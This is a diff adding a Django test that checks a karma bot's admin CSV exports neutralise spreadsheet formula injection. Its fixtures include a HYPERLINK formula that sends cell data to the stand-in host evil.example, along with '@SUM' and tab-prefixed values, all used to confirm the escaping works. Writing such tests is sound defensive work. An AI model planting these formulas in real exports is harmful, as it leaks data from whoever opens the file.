@@ -1,5 +1,7 @@
 """The admin through Django's test client: login, search, filter, sort, edits that reach the ledger."""
 
+import csv
+import io
 import json
 
 import pytest
@@ -214,3 +216,22 @@ def test_only_those_who_may_change_karma_may_revert_or_forget(client, django_use
     rows = list(LedgerEntry.objects.values_list("pk", flat=True))
     client.post(ledger, {"action": "revert", "_selected_action": rows})
     assert not LedgerEntry.objects.filter(source="revert").exists()
+
+
+def test_csv_exports_cannot_hold_spreadsheet_formulas(admin_client):
+    formula = '=HYPERLINK("https://evil.example/?leak="&A1,"click")'
+    store.apply_changes(chat("", guild_id=1, author_name="@SUM(A1:A9)"), [(formula, -2), ("+1", 1), ("-x", 1)])
+    store.apply_changes(chat("", guild_id=1, author_name="\tcmd"), [("plain", 1)])
+    GuildSettings.objects.create(guild_id=1)
+    servers = reverse("admin:karma_guildsettings_changelist")
+
+    def cells(action):
+        exported = admin_client.post(servers, {"action": action, "_selected_action": [1]})
+        return list(csv.DictReader(io.StringIO(b"".join(exported.streaming_content).decode())))
+
+    karma = {row["subject"]: row["karma"] for row in cells("export_karma_csv")}
+    # A cell a spreadsheet would read as a formula starts with ' (shown, not run); numbers stay numbers.
+    assert karma == {"'" + formula: "-2", "'+1": "1", "'-x": "1", "plain": "1"}
+    ledger = cells("export_ledger_csv")
+    assert {row["author_name"] for row in ledger} == {"'@SUM(A1:A9)", "'\tcmd"}
+    assert [row["delta"] for row in ledger if row["subject"] == "'" + formula] == ["-2"]
